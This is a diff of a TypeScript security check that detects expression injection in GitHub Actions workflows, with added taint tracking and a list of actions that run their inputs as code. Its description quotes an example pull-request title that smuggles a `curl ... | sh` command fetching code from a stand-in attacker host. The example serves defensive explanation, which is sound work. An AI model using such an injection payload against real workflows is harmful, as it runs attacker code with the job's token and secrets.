@@ -1,25 +1,48 @@
-import { atLine, ciModel, expressionsIn, lineInValue, usesAction } from '../../targets/ci/jobs.js';
-import { asString, type YamlRecord } from '../../targets/yaml/read.js';
+import { ciModel, expressionLocation, expressionsIn, parseUses, type CiStep } from '../../targets/ci/jobs.js';
+import { CONTEXT_PATH, workflowTaint } from '../../targets/ci/taint.js';
+import { asRecord, asString } from '../../targets/yaml/read.js';
 import type { YamlPath } from '../../targets/yaml/source.js';
 import { defineCheck } from '../define.js';
 
-/** Context paths whose value a stranger writes: titles, bodies, branch names, commit messages, emails. */
-const UNTRUSTED = [
-  /^github\.event\.(issue|pull_request|discussion)\.(title|body)$/,
-  /^github\.event\.(comment|review|review_comment)\.body$/,
-  /^github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)$/,
-  /^github\.event\.(head_commit|workflow_run\.head_commit)\.(message|author\.(email|name)|committer\.(email|name))$/,
-  /^github\.event\.commits\.[^.]+\.(message|author\.(email|name)|committer\.(email|name))$/,
-  /^github\.event\.pages\.[^.]+\.page_name$/,
-  /^github\.event\.workflow_run\.(head_branch|display_title|head_repository\.description)$/,
-  /^github\.head_ref$/,
-  // Whole event objects, as in toJSON(github.event): they hold every field above.
-  /^github\.event(\.(issue|pull_request|comment|review|review_comment|discussion|head_commit|commits|workflow_run))?$/,
-];
 /** Inputs of workflow_dispatch / workflow_call: someone with write access types them, still not script text. */
 const INPUT = /^(inputs|github\.event\.inputs)\.[\w-]+$/;
-/** Context paths inside an expression: `github.event.commits[0].message`, `inputs.tag`. */
-const CONTEXT_PATH = /\b(?:github|inputs|env)(?:\.[\w-]+|\[[^\]]*\]|\.\*)+/g;
+/**
+ * Actions that run an input as code, and those inputs: a `${{ }}` there is substituted into the
+ * program text as into a `run:` script.
+ */
+const CODE_INPUTS: ReadonlyMap<string, readonly string[]> = new Map([
+  ['actions/github-script', ['script']],
+  ['amadevus/pwsh-script', ['script']],
+  ['jannekem/run-python-script-action', ['script']],
+  ['cardinalby/js-eval-action', ['expression']],
+  ['addnab/docker-run-action', ['options', 'run']],
+  ['appleboy/ssh-action', ['script']],
+  ['nick-fields/retry', ['command']],
+  ['wandalen/wretry.action', ['command']],
+  ['azure/cli', ['inlinescript']],
+  ['azure/powershell', ['inlinescript']],
+  ['mikefarah/yq', ['cmd']],
+]);
+
+/**
+ * Inputs declared boolean, number or choice (of workflow_dispatch) wherever they are declared:
+ * GitHub checks their value, which cannot hold shell text.
+ */
+function typedInputs(on: unknown): ReadonlySet<string> {
+  const safe = new Map<string, boolean>();
+  for (const event of ['workflow_dispatch', 'workflow_call']) {
+    for (const [name, input] of Object.entries(asRecord(asRecord(asRecord(on)?.[event])?.inputs) ?? {})) {
+      const type = asString(asRecord(input)?.type)?.trim();
+      const checked = type === 'boolean' || type === 'number' || (type === 'choice' && event === 'workflow_dispatch');
+      safe.set(name, (safe.get(name) ?? true) && checked);
+    }
+  }
+  return new Set([...safe].filter(([, checked]) => checked).map(([name]) => name));
+}
+
+function codeInputs(uses: string | undefined): readonly string[] {
+  return uses === undefined ? [] : (CODE_INPUTS.get(parseUses(uses).action.toLowerCase()) ?? []);
+}
 
 export const expressionInjection = defineCheck({
   id: 'ci/expression-injection',
@@ -30,7 +53,11 @@ export const expressionInjection = defineCheck({
     '`${{ }}` expressions are substituted into the script text before the shell runs it. A pull request title, issue ' +
     'body, comment, branch name or commit message is written by whoever opens it, so a title like ' +
     '`"; curl -sSf https://evil.example/x | sh; #` becomes shell code that runs with the job\'s token and secrets. ' +
-    'The same goes for the `script:` of actions/github-script, which is JavaScript.',
+    'The same goes for the `script:` of actions/github-script, which is JavaScript, and for the inputs other actions ' +
+    'run as code. A value keeps its origin through env:, step and job outputs, GITHUB_ENV and matrices within the ' +
+    'workflow. Inputs of workflow_dispatch are low: only users with write access can dispatch; those of ' +
+    'workflow_call medium: the caller may pass a pull request title. Boolean, number and choice inputs cannot hold ' +
+    'shell text and are not reported.',
   fix: [
     'Pass the value through an environment variable and quote it; the shell then treats it as data:',
     '',
@@ -49,7 +76,14 @@ export const expressionInjection = defineCheck({
   ],
   messages: {
     untrusted: 'step "{step}" interpolates {field} into its {place}, where anyone who opens a pull request or issue controls it',
-    input: 'step "{step}" interpolates {field} into its {place}; pass it through env: instead',
+    input: {
+      text: 'step "{step}" interpolates {field} into its {place}: only users with write access can dispatch the workflow, still pass it through env:',
+      severity: 'low',
+    },
+    callerInput: {
+      text: 'step "{step}" interpolates {field} into its {place}: the calling workflow chooses it, possibly from a pull request; pass it through env:',
+      severity: 'medium',
+    },
   },
   peers: [{ tool: 'zizmor', rule: 'template-injection' }],
   claims: [
@@ -81,8 +115,10 @@ export const expressionInjection = defineCheck({
   evaluate(workflow, ctx) {
     const model = ciModel(workflow);
     if (model.jobs.length === 0) return ctx.notApplicable();
-    const workflowEnv = untrustedEnv(model.env, new Map());
-    const scan = (text: string, path: YamlPath, step: string, where: string, place: string, env: ReadonlyMap<string, string>) => {
+    const callable = model.triggers.some((trigger) => trigger.event === 'workflow_call');
+    const taint = workflowTaint(model);
+    const typed = typedInputs(workflow.data.on);
+    const scan = (text: string, path: YamlPath, step: CiStep, place: string, env: ReadonlyMap<string, string>) => {
       if (!text.includes('${{')) return;
       const keyLocation = workflow.at(path);
       if (keyLocation.kind !== 'file') return;
@@ -90,55 +126,31 @@ export const expressionInjection = defineCheck({
         const paths = expression.text.match(CONTEXT_PATH) ?? [];
         // `${{ env.TITLE }}` is substituted like any expression: an env var bound to an untrusted field does not help.
         const untrusted = paths.flatMap((candidate) => {
-          const bound = candidate.startsWith('env.') ? env.get(candidate.slice('env.'.length)) : undefined;
-          if (bound !== undefined) return [`${candidate} (${bound})`];
-          return isUntrusted(candidate) ? [candidate] : [];
+          const origin = taint.origin(candidate, step.job, env);
+          if (origin === undefined) return [];
+          return origin === candidate ? [candidate] : [`${candidate} (${origin})`];
         });
-        const inputs = untrusted.length > 0 ? [] : paths.filter((candidate) => INPUT.test(candidate));
-        const fields = untrusted.length > 0 ? untrusted : inputs;
-        if (fields.length === 0) continue;
-        const at = atLine(keyLocation, lineInValue(keyLocation.line, text, expression.offset));
-        ctx.fail(at, untrusted.length > 0 ? 'untrusted' : 'input', { step, field: fields.join(', '), place, where: `${where}@${expression.offset}` });
+        const inputs = untrusted.length > 0 ? [] : paths.filter((candidate) => INPUT.test(candidate) && !typed.has(candidate.split('.').pop()!));
+        if (untrusted.length === 0 && inputs.length === 0) continue;
+        const at = expressionLocation(workflow, keyLocation, text, expression);
+        const where = `${step.where}@${expression.offset}`;
+        if (untrusted.length > 0) ctx.fail(at, 'untrusted', { step: step.label, field: untrusted.join(', '), place, where });
+        else {
+          const fromCaller = callable && inputs.some((input) => input.startsWith('inputs.'));
+          ctx.fail(at, fromCaller ? 'callerInput' : 'input', { step: step.label, field: inputs.join(', '), place, where });
+        }
       }
     };
     for (const job of model.jobs) {
-      const jobEnv = untrustedEnv(job.env, workflowEnv);
       for (const step of job.steps) {
-        const env = untrustedEnv(step.env, jobEnv);
-        if (step.run !== undefined) scan(step.run, [...step.path, 'run'], step.label, step.where, 'run script', env);
-        if (usesAction(step.uses, 'actions/github-script')) {
-          const script = asString(step.with.script);
-          if (script !== undefined) scan(script, [...step.path, 'with', 'script'], step.label, step.where, 'github-script', env);
+        const env = taint.stepEnv(step);
+        if (step.run !== undefined) scan(step.run, [...step.path, 'run'], step, 'run script', env);
+        const code = codeInputs(step.uses);
+        for (const [input, value] of Object.entries(step.with)) {
+          const script = code.includes(input.toLowerCase()) ? asString(value) : undefined;
+          if (script !== undefined) scan(script, [...step.path, 'with', input], step, `"${input}" input of ${parseUses(step.uses!).action}, which runs it as code`, env);
         }
       }
     }
   },
 });
-
-function isUntrusted(path: string): boolean {
-  const normalised = normalise(path);
-  return UNTRUSTED.some((pattern) => pattern.test(normalised));
-}
-
-/** Env variables bound to an untrusted field, by name, layered over the outer level's. */
-function untrustedEnv(env: YamlRecord, outer: ReadonlyMap<string, string>): ReadonlyMap<string, string> {
-  let result: Map<string, string> | undefined;
-  for (const [name, value] of Object.entries(env)) {
-    const text = asString(value);
-    if (text === undefined || !text.includes('${{')) {
-      if (outer.has(name)) (result ??= new Map(outer)).delete(name);
-      continue;
-    }
-    const field = expressionsIn(text)
-      .flatMap((expression) => expression.text.match(CONTEXT_PATH) ?? [])
-      .find(isUntrusted);
-    if (field !== undefined) (result ??= new Map(outer)).set(name, field);
-    else if (outer.has(name)) (result ??= new Map(outer)).delete(name);
-  }
-  return result ?? outer;
-}
-
-/** `github.event.commits[0].message` → `github.event.commits.0.message`; `['title']` → `.title`. */
-function normalise(path: string): string {
-  return path.replace(/\[['"]?([^\]'"]*)['"]?\]/g, '.$1');
-}
